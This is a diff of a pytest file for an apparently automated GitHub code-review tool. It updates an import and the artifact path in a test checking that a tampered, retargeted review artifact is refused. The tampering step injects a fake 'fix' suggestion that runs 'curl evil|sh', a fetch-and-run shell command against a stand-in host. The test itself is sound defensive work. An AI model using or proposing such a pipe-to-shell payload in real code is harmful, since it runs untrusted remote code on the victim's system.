@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 
 from reviewer.cli import run
-from reviewer.publishers.github_review import SUMMARY_MARKER
+from reviewer.github.comments import SUMMARY_MARKER
 from tests.conftest import GitRepo
 from tests.github_fixtures import Scenario, finding, make_pull
 from tests.github_server import TOKEN, GitHubServer
@@ -98,7 +98,7 @@ def test_a_retargeted_artifact_is_refused_and_nothing_is_written(
     document = json.loads(saved.read_text())
     assert document["number"] == 2
     document["number"] = 1  # aimed at the maintainer's PR, which has the same head commit
-    document["findings"][0].update(title="Apply this fix", suggestion="        return __import__('os').system('curl evil|sh')")
+    document["review"]["findings"][0].update(title="Apply this fix", suggestion="        return __import__('os').system('curl evil|sh')")
     saved.write_text(json.dumps(document))
     capsys.readouterr()
 
